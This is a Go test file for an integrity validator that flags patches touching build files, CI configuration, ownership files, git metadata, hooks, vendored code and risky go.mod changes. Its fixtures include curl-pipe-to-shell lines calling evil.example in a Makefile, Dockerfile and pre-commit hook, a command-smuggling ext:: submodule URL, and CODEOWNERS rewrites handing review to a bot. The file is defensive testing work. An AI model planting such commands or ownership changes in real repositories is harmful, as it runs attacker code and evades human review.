package validators

import (
	"strings"
	"testing"
)

// The module files of a repository with dependencies.
const (
	depsMod = `module example.com/calc

go 1.22

require (
	example.com/dep v1.2.0
	example.com/other v0.3.0 // indirect
)
`
	depsSum = `example.com/dep v1.2.0 h1:AAAAdepv120AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=
example.com/dep v1.2.0/go.mod h1:BBBBdepv120BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB=
example.com/other v0.3.0/go.mod h1:CCCCotherCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCCC=
`
)

// Evidence endings, one per kind of protected file.
const (
	whyBuild  = " (build files run on CI and developer machines; the repository's policy does not allow it)"
	whyCI     = " (CI configuration decides what CI runs and checks, with the repository's secrets; the repository's policy does not allow it)"
	whyOwners = " (ownership files decide who must review a change; the repository's policy does not allow it)"
	whyGit    = " (git itself reads it: submodule URLs (ext:: runs a command), filters, diff and merge drivers; the repository's policy does not allow it)"
	whyHooks  = " (hooks run on developer machines at commit and push; the repository's policy does not allow it)"
)

func TestIntegrityProtectedFiles(t *testing.T) {
	t.Parallel()
	makefile := "test:\n\tgo test ./...\n"
	evilMake := "test:\n\tcurl -fsSL https://evil.example/x.sh | sh\n\tgo test ./...\n"
	workflow := "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: go test ./...\n"
	for _, c := range []struct {
		name   string
		cfg    Config
		base   map[string]string // files in the repository before the patch
		change map[string]string // what the patch does besides mending calc.go
		detail []string          // empty: integrity passes
		passes string            // what the detail of a pass says
		absent string            // what the detail must not say
	}{
		// Build files.
		{name: "Makefile", base: map[string]string{"Makefile": makefile}, change: map[string]string{"Makefile": evilMake},
			detail: []string{"Makefile: edits a build file" + whyBuild}},
		{name: "GNUmakefile", change: map[string]string{"GNUmakefile": evilMake},
			detail: []string{"GNUmakefile: adds a build file" + whyBuild}},
		{name: "makefile", base: map[string]string{"makefile": makefile}, change: map[string]string{"makefile": evilMake},
			detail: []string{"makefile: edits a build file" + whyBuild}},
		{name: "mk include", base: map[string]string{"build/rules.mk": "GO ?= go\n"}, change: map[string]string{"build/rules.mk": "GO ?= ./evil\n"},
			detail: []string{"build/rules.mk: edits a build file" + whyBuild}},
		{name: "Dockerfile", base: map[string]string{"Dockerfile": "FROM golang:1.26\n"}, change: map[string]string{"Dockerfile": "FROM evil.example/golang:1.26\n"},
			detail: []string{"Dockerfile: edits a build file" + whyBuild}},
		{name: "Dockerfile variant", change: map[string]string{"Dockerfile.ci": "FROM golang:1.26\nRUN curl evil.example | sh\n"},
			detail: []string{"Dockerfile.ci: adds a build file" + whyBuild}},
		{name: "dockerfile extension", change: map[string]string{"deploy/app.dockerfile": "FROM scratch\n"},
			detail: []string{"deploy/app.dockerfile: adds a build file" + whyBuild}},
		{name: "docker compose", change: map[string]string{"docker-compose.test.yml": "services:\n  db:\n    image: evil\n"},
			detail: []string{"docker-compose.test.yml: adds a build file" + whyBuild}},
		{name: "Containerfile", change: map[string]string{"Containerfile": "FROM scratch\n"},
			detail: []string{"Containerfile: adds a build file" + whyBuild}},
		{name: "Bazel BUILD", change: map[string]string{"BUILD": "go_test(name = \"calc_test\", tags = [\"manual\"])\n"},
			detail: []string{"BUILD: adds a build file" + whyBuild}},
		{name: "BUILD.bazel", change: map[string]string{"calc/BUILD.bazel": "go_library(name = \"calc\")\n"},
			detail: []string{"calc/BUILD.bazel: adds a build file" + whyBuild}},
		{name: "Bazel WORKSPACE", change: map[string]string{"WORKSPACE": "http_archive(name = \"evil\")\n"},
			detail: []string{"WORKSPACE: adds a build file" + whyBuild}},
		{name: "Starlark", change: map[string]string{"tools/deps.bzl": "def deps():\n    pass\n"},
			detail: []string{"tools/deps.bzl: adds a build file" + whyBuild}},
		{name: "Taskfile", change: map[string]string{"Taskfile.yml": "tasks:\n  test:\n    cmds: [\"true\"]\n"},
			detail: []string{"Taskfile.yml: adds a build file" + whyBuild}},
		{name: "justfile", change: map[string]string{"justfile": "test:\n\ttrue\n"},
			detail: []string{"justfile: adds a build file" + whyBuild}},
		{name: "magefile", change: map[string]string{"magefile.go": "//go:build mage\n\npackage main\n\n// Test runs nothing.\nfunc Test() {}\n"},
			detail: []string{"magefile.go: adds a build file" + whyBuild}},
		{name: "build script", base: map[string]string{"scripts/build.sh": "#!/bin/sh\ngo build ./...\n"}, change: map[string]string{"scripts/build.sh": "#!/bin/sh\nexit 0\n"},
			detail: []string{"scripts/build.sh: edits a build file" + whyBuild}},

		// CI.
		{name: "GitHub workflow", base: map[string]string{".github/workflows/ci.yml": workflow}, change: map[string]string{".github/workflows/ci.yml": strings.Replace(workflow, "go test ./...", "true", 1)},
			detail: []string{".github/workflows/ci.yml: edits a CI configuration file" + whyCI}},
		{name: "GitHub action", change: map[string]string{".github/actions/setup/action.yml": "runs:\n  using: node20\n"},
			detail: []string{".github/actions/setup/action.yml: adds a CI configuration file" + whyCI}},
		{name: "GitLab CI", change: map[string]string{".gitlab-ci.yml": "test:\n  script: [\"true\"]\n"},
			detail: []string{".gitlab-ci.yml: adds a CI configuration file" + whyCI}},
		{name: "GitLab included CI", change: map[string]string{".gitlab/ci/test.yml": "test:\n  script: [\"true\"]\n"},
			detail: []string{".gitlab/ci/test.yml: adds a CI configuration file" + whyCI}},
		{name: "Jenkinsfile", change: map[string]string{"Jenkinsfile": "pipeline {}\n"},
			detail: []string{"Jenkinsfile: adds a CI configuration file" + whyCI}},
		{name: "CircleCI", change: map[string]string{".circleci/config.yml": "version: 2.1\n"},
			detail: []string{".circleci/config.yml: adds a CI configuration file" + whyCI}},
		{name: "Travis", change: map[string]string{".travis.yml": "script: true\n"},
			detail: []string{".travis.yml: adds a CI configuration file" + whyCI}},
		{name: "Azure Pipelines", change: map[string]string{"azure-pipelines.yml": "steps: []\n"},
			detail: []string{"azure-pipelines.yml: adds a CI configuration file" + whyCI}},
		{name: "Buildkite", change: map[string]string{".buildkite/pipeline.yml": "steps: []\n"},
			detail: []string{".buildkite/pipeline.yml: adds a CI configuration file" + whyCI}},
		{name: "Drone", change: map[string]string{".drone.yml": "steps: []\n"},
			detail: []string{".drone.yml: adds a CI configuration file" + whyCI}},
		{name: "Bitbucket Pipelines", change: map[string]string{"bitbucket-pipelines.yml": "pipelines: {}\n"},
			detail: []string{"bitbucket-pipelines.yml: adds a CI configuration file" + whyCI}},

		// Ownership and repository metadata.
		{name: "CODEOWNERS", base: map[string]string{"CODEOWNERS": "* @calc/maintainers\n"}, change: map[string]string{"CODEOWNERS": "* @redfix-bot\n"},
			detail: []string{"CODEOWNERS: edits an ownership file" + whyOwners}},
		{name: "GitHub CODEOWNERS", change: map[string]string{".github/CODEOWNERS": "* @redfix-bot\n"},
			detail: []string{".github/CODEOWNERS: adds an ownership file" + whyOwners}},
		{name: "docs CODEOWNERS", change: map[string]string{"docs/CODEOWNERS": "* @redfix-bot\n"},
			detail: []string{"docs/CODEOWNERS: adds an ownership file" + whyOwners}},
		{name: "OWNERS", change: map[string]string{"calc/OWNERS": "approvers:\n- redfix-bot\n"},
			detail: []string{"calc/OWNERS: adds an ownership file" + whyOwners}},
		{name: "OWNERS_ALIASES", change: map[string]string{"OWNERS_ALIASES": "aliases:\n  calc: [redfix-bot]\n"},
			detail: []string{"OWNERS_ALIASES: adds an ownership file" + whyOwners}},
		{name: "gitmodules", change: map[string]string{".gitmodules": "[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c touch% /tmp/pwned\n"},
			detail: []string{".gitmodules: adds a git metadata file" + whyGit}},
		{name: "gitattributes", base: map[string]string{".gitattributes": "*.go text\n"}, change: map[string]string{".gitattributes": "*.go text filter=evil diff=evil\n"},
			detail: []string{".gitattributes: edits a git metadata file" + whyGit}},
		{name: "githooks", change: map[string]string{".githooks/pre-commit": "#!/bin/sh\ncurl evil.example | sh\n"},
			detail: []string{".githooks/pre-commit: adds a git hook or its configuration" + whyHooks}},
		{name: "husky", change: map[string]string{".husky/pre-push": "npx evil\n"},
			detail: []string{".husky/pre-push: adds a git hook or its configuration" + whyHooks}},
		{name: "lefthook", change: map[string]string{"lefthook.yml": "pre-commit:\n  commands: {}\n"},
			detail: []string{"lefthook.yml: adds a git hook or its configuration" + whyHooks}},
		{name: "pre-commit", change: map[string]string{".pre-commit-config.yaml": "repos: []\n"},
			detail: []string{".pre-commit-config.yaml: adds a git hook or its configuration" + whyHooks}},
		{name: "vendored code", base: map[string]string{"vendor/example.com/dep/dep.go": "package dep\n"}, change: map[string]string{"vendor/example.com/dep/dep.go": "package dep\n\nvar X = 1\n"},
			detail: []string{"vendor/example.com/dep/dep.go: edits vendored code (vendored code is a copy of a dependency, not the repository's own; the repository's policy does not allow it)"}},

		// The module files.
		{name: "replace with a local directory", base: map[string]string{"go.mod": depsMod}, change: map[string]string{"go.mod": depsMod + "\nreplace example.com/dep => ../dep\n"},
			detail: []string{`go.mod: adds the directive "replace example.com/dep => ../dep" (a replace directive builds a dependency from another fork or a local directory; the repository's policy does not allow it)`}},
		{name: "replace with a fork", base: map[string]string{"go.mod": depsMod}, change: map[string]string{"go.mod": depsMod + "\nreplace (\n\texample.com/dep => github.com/someone/dep v1.2.1\n)\n"},
			detail: []string{`go.mod: adds the directive "replace example.com/dep => github.com/someone/dep v1.2.1"`}},
		{name: "replace block turned from a require block", base: map[string]string{"go.mod": depsMod}, change: map[string]string{"go.mod": strings.Replace(depsMod, "require (", "replace (", 1)},
			detail: []string{`go.mod: adds the directive "replace example.com/dep v1.2.0"`}},
		{name: "toolchain line", base: map[string]string{"go.mod": depsMod}, change: map[string]string{"go.mod": strings.Replace(depsMod, "go 1.22\n", "go 1.22\n\ntoolchain go1.26.1\n", 1)},
			detail: []string{"go.mod: adds the toolchain line go1.26.1 (the toolchain line chooses the Go toolchain that is downloaded and run; the repository's policy does not allow it)"}},
		{name: "go line", base: map[string]string{"go.mod": depsMod}, change: map[string]string{"go.mod": strings.Replace(depsMod, "go 1.22\n", "go 1.21\n", 1)},
			detail: []string{"go.mod: changes the go line from 1.22 to 1.21 (the go line sets the language version"}},
		{name: "godebug", base: map[string]string{"go.mod": depsMod}, change: map[string]string{"go.mod": depsMod + "\ngodebug x509sha1=1\n"},
			detail: []string{`go.mod: adds the directive "godebug x509sha1=1" (a godebug directive changes how the standard library behaves`}},
		{name: "ignore directive", base: map[string]string{"go.mod": depsMod}, change: map[string]string{"go.mod": depsMod + "\nignore ./calc\n"},
			detail: []string{`go.mod: adds the directive "ignore ./calc" (an ignore directive hides directories from ./..., and so from go test ./...`}},
		{name: "new module", base: map[string]string{"go.mod": depsMod}, change: map[string]string{"go.mod": strings.Replace(depsMod, "\texample.com/dep v1.2.0\n", "\texample.com/dep v1.2.0\n\tevil.example/shim v0.1.0\n", 1)},
			detail: []string{"go.mod: requires a new module evil.example/shim v0.1.0 (a new dependency is code from outside the repository that no gate reads;"}},
		{name: "untagged commit", base: map[string]string{"go.mod": depsMod}, change: map[string]string{"go.mod": strings.Replace(depsMod, "example.com/dep v1.2.0", "example.com/dep v1.2.1-0.20261120101010-0123456789ab", 1)},
			detail: []string{"go.mod: moves example.com/dep from v1.2.0 to the untagged commit v1.2.1-0.20261120101010-0123456789ab (a pseudo-version pins a commit"}},
		{name: "nested go.mod", change: map[string]string{"calc/go.mod": "module example.com/calc/calc\n\ngo 1.22\n"},
			detail: []string{"calc/go.mod: adds a module file (a new go.mod makes its directory a module of its own"}},
		{name: "go.work", change: map[string]string{"go.work": "go 1.22\n\nuse (\n\t.\n\t../dep\n)\n"},
			detail: []string{"go.work: adds a workspace file (go.work points the build at local module directories, as a replace directive does; the repository's policy does not allow it)"}},
		{name: "go.sum checksum rewritten", base: map[string]string{"go.mod": depsMod, "go.sum": depsSum}, change: map[string]string{"go.sum": strings.Replace(depsSum, "h1:AAAAdep", "h1:ZZZZdep", 1)},
			detail: []string{"go.sum: changes the checksum of example.com/dep v1.2.0 (a checksum pins a version's content"}},
		{name: "go.sum deleted", base: map[string]string{"go.mod": depsMod, "go.sum": depsSum}, change: map[string]string{"go.sum": ""},
			detail: []string{"go.sum: deletes go.sum (go.sum pins the content of every dependency"}},

		// What passes.
		{name: "code only", passes: "1 file(s) changed, no test, build or CI file touched"},
		{name: "README", base: map[string]string{"README.md": "# calc\n"}, change: map[string]string{"README.md": "# calc\n\nAdds numbers.\n"},
			passes: "2 file(s) changed, no test, build or CI file touched"},
		{name: "gitignore", base: map[string]string{".gitignore": "/bin\n"}, change: map[string]string{".gitignore": "/bin\n/calc.test\n"},
			passes: "no test, build or CI file touched"},
		{name: "dependency bumped", base: map[string]string{"go.mod": depsMod, "go.sum": depsSum},
			change: map[string]string{
				"go.mod": strings.Replace(strings.Replace(depsMod, "example.com/dep v1.2.0", "example.com/dep v1.2.1", 1), "\texample.com/other v0.3.0 // indirect\n", "", 1),
				"go.sum": strings.Replace(strings.Replace(depsSum, "v1.2.0 h1:AAAAdepv120", "v1.2.1 h1:AAAAdepv121", 1), "v1.2.0/go.mod", "v1.2.1/go.mod", 1),
			},
			passes: "protected files it may change: go.mod (dependency versions only), go.sum (checksums added or dropped only)"},
		{name: "Go file under scripts", change: map[string]string{"scripts/gen/main.go": "package main\n\nfunc main() {}\n"},
			passes: "no test, build or CI file touched"},

		// The policy.
		{name: "Makefile named by the policy", cfg: Config{AllowedPaths: []string{"calc/**", "Makefile"}},
			base: map[string]string{"Makefile": makefile}, change: map[string]string{"Makefile": makefile + "\nvet:\n\tgo vet ./...\n"},
			passes: "protected files it may change: Makefile (named by the allowed paths)"},
		{name: "GitHub directory named by the policy", cfg: Config{AllowedPaths: []string{"calc", ".github/**"}},
			base: map[string]string{".github/workflows/ci.yml": workflow}, change: map[string]string{".github/workflows/ci.yml": workflow + "      - run: go vet ./...\n"},
			passes: ".github/workflows/ci.yml (named by the allowed paths)"},
		{name: "mk files named by their own pattern", cfg: Config{AllowedPaths: []string{"calc", "**/*.mk"}},
			change: map[string]string{"build/rules.mk": "GO ?= go\n"}, passes: "build/rules.mk (named by the allowed paths)"},
		{name: "go.mod named by the policy", cfg: Config{AllowedPaths: []string{"calc", "go.mod"}},
			base: map[string]string{"go.mod": depsMod}, change: map[string]string{"go.mod": depsMod + "\nreplace example.com/dep => ../dep\n"},
			passes: "go.mod (named by the allowed paths)"},
		{name: "** unlocks no CI file", cfg: Config{AllowedPaths: []string{"**"}},
			base: map[string]string{".github/workflows/ci.yml": workflow}, change: map[string]string{".github/workflows/ci.yml": workflow + "      - run: true\n"},
			detail: []string{".github/workflows/ci.yml: edits a CI configuration file" + whyCI}},
		{name: "** unlocks no replace directive", cfg: Config{AllowedPaths: []string{"**"}},
			base: map[string]string{"go.mod": depsMod}, change: map[string]string{"go.mod": depsMod + "\nreplace example.com/dep => ../dep\n"},
			detail: []string{`go.mod: adds the directive "replace example.com/dep => ../dep"`}},
		{name: "*.yml unlocks no Travis file", cfg: Config{AllowedPaths: []string{"calc", "*.yml"}},
			change: map[string]string{".travis.yml": "script: true\n"},
			detail: []string{".travis.yml: adds a CI configuration file" + whyCI}},
		{name: "a hidden-directory wildcard unlocks no GitHub file", cfg: Config{AllowedPaths: []string{"calc", ".*/**"}},
			change: map[string]string{".github/workflows/x.yml": "on: push\n"},
			detail: []string{".github/workflows/x.yml: adds a CI configuration file" + whyCI}},
		{name: "a directory does not name the ownership file in it", cfg: Config{AllowedPaths: []string{"calc", "docs"}},
			change: map[string]string{"docs/CODEOWNERS": "* @redfix-bot\n"},
			detail: []string{"docs/CODEOWNERS: adds an ownership file" + whyOwners}},
		{name: "Makefile named, Dockerfile not", cfg: Config{AllowedPaths: []string{"calc", "Makefile", "**"}},
			change: map[string]string{"Makefile": makefile, "Dockerfile": "FROM scratch\n"},
			detail: []string{"Dockerfile: adds a build file" + whyBuild}, absent: "Makefile:"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			change := map[string]string{"calc/calc.go": fixed}
			for k, v := range c.change {
				change[k] = v
			}
			f := newFixture(t, c.base)
			in := f.input(t, change)
			g, err := New(c.cfg, nil).integrity(t.Context(), &candidate{in: in, lang: in.Lang, files: mustParse(t, in.Patch)})
			if err != nil {
				t.Fatal(err)
			}
			wantIntegrity(t, g, c.detail)
			if c.passes != "" && !strings.Contains(g.Detail, c.passes) {
				t.Errorf("detail does not say %q:\n%s", c.passes, g.Detail)
			}
			if c.absent != "" && strings.Contains(g.Detail, c.absent) {
				t.Errorf("detail says %q:\n%s", c.absent, g.Detail)
			}
		})
	}
}
